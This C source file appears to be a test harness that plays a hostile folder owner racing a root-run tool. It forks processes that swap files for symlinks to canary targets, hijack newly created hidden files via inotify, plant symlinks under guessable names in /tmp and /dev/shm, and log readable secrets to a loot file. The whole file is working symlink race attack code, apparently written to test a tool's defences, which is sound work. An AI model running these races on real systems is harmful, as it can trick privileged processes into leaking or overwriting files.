/*
 * What a hostile owner of a folder does while root works in it: attacker FOLDER SECONDS CANARY...
 * -- NAME...
 *
 * Three processes: one swaps NAMEs in FOLDER for links to the canaries and back, one renames
 * whatever appears there under a hidden name and puts a link or a folder of its own in its place,
 * one plants links under names that can be guessed. What of others' secrets can be read goes to
 * FOLDER/../loot.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *folder;
static char **canaries, **names;
static int canary_count;
static time_t end;

static const char *canary(unsigned turn)
{
	return canaries[turn % (unsigned)canary_count];
}

static void note(const char *path, const char *text)
{
	char loot[PATH_MAX];
	(void)snprintf(loot, sizeof loot, "%s/../loot", folder);
	FILE *file = fopen(loot, "ae");
	if (file != NULL) {
		(void)fprintf(file, "%s: %s\n", path, text);
		(void)fclose(file);
	}
}

static void read_one(const char *path)
{
	char text[4096];
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (n > 0) {
		text[n] = '\0';
		if (strstr(text, "SECRET") != NULL) {
			note(path, text);
		}
	}
	if (fd >= 0) {
		(void)close(fd);
	}
}

/* Reads a path, or what is in it when it is a folder. */
static void read_all(const char *path)
{
	DIR *dir = opendir(path);
	if (dir == NULL) {
		read_one(path);
		return;
	}
	for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
		char one[2 * PATH_MAX];
		(void)snprintf(one, sizeof one, "%s/%s", path, entry->d_name);
		if (entry->d_name[0] != '.') {
			read_one(one);
		}
	}
	(void)closedir(dir);
}

static void swap(void)
{
	for (unsigned turn = 0; time(NULL) < end;) {
		for (char **name = names; *name != NULL; name++, turn++) {
			char path[PATH_MAX], aside[PATH_MAX];
			(void)snprintf(path, sizeof path, "%s/%s", folder, *name);
			(void)snprintf(aside, sizeof aside, "%s/../aside/%u", folder,
				(unsigned)(name - names));
			(void)!rename(path, aside);
			(void)!symlink(canary(turn), path);
			if (turn % 3 == 0) {
				(void)usleep(500);
			}
			(void)unlink(path);
			(void)!rename(aside, path);
			if (turn % 7 == 0) {
				(void)usleep(1500);
			}
		}
	}
}

static void take_over(const char *name, unsigned turn)
{
	char path[PATH_MAX], stolen[PATH_MAX + 16];
	(void)snprintf(path, sizeof path, "%s/%s", folder, name);
	(void)snprintf(stolen, sizeof stolen, "%s.stolen", path);
	read_all(path);
	if (turn % 4 == 3) {
		return;
	}
	(void)!rename(path, stolen);
	if (turn % 4 == 1) {
		(void)mkdir(path, 0777);
	} else {
		(void)!symlink(canary(turn), path);
	}
}

static void watch(void)
{
	int fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
	(void)inotify_add_watch(fd, folder, IN_CREATE | IN_MOVED_TO);
	char buffer[65536] __attribute__((aligned(8)));
	for (unsigned turn = 0; time(NULL) < end;) {
		ssize_t n = read(fd, buffer, sizeof buffer);
		for (char *at = buffer; n > 0 && at < buffer + n;) {
			const struct inotify_event *event = (const void *)at;
			if (event->len > 0 && event->name[0] == '.' && strlen(event->name) > 9 &&
				strstr(event->name, ".stolen") == NULL) {
				take_over(event->name, turn++);
			}
			at += sizeof *event + event->len;
		}
	}
}

/* Plants links beside names that were seen: NONCE-1, NONCE-2... */
static void plant_beside(const char *place)
{
	DIR *dir = opendir(place);
	for (struct dirent *entry; dir != NULL && (entry = readdir(dir)) != NULL;) {
		char seen[NAME_MAX + 1];
		(void)snprintf(seen, sizeof seen, "%s", entry->d_name);
		if (strncmp(seen, ".sutler-", 8) != 0 || strlen(seen) < 20) {
			continue;
		}
		seen[8 + strcspn(seen + 8, "-")] = '\0';
		for (unsigned number = 0; number < 60; number++) {
			char path[2 * PATH_MAX];
			(void)snprintf(path, sizeof path, "%s/%s-%u", folder, seen, number);
			(void)!symlink(canary(number), path);
		}
	}
	if (dir != NULL) {
		(void)closedir(dir);
	}
}

static void plant(void)
{
	for (unsigned turn = 0; time(NULL) < end; turn++) {
		plant_beside(folder);
		plant_beside("/tmp");
		plant_beside("/dev/shm");
		for (char **name = names; *name != NULL; name++) {
			char path[PATH_MAX], date[64];
			time_t when = time(NULL) + turn % 3;
			(void)strftime(date, sizeof date, "%Y-%m-%d@%H:%M:%S~", localtime(&when));
			(void)snprintf(path, sizeof path, "%s/%s.%s", folder, *name, date);
			(void)!symlink(canary(0), path);
			(void)snprintf(path, sizeof path, "%s/%s", folder, *name);
			read_one(path);
		}
		(void)usleep(5000);
	}
}

int main(int argc, char **argv)
{
	void (*const roles[])(void) = { swap, watch, plant };
	if (argc < 5) {
		return 2;
	}
	folder = argv[1];
	end = time(NULL) + atoi(argv[2]);
	canaries = argv + 3;
	for (names = canaries; *names != NULL && strcmp(*names, "--") != 0; names++) {
		canary_count++;
	}
	names += *names != NULL;
	for (int i = 0; i < 3; i++) {
		if (fork() == 0) {
			roles[i]();
			_exit(0);
		}
	}
	while (wait(NULL) > 0) {
	}
	return 0;
}
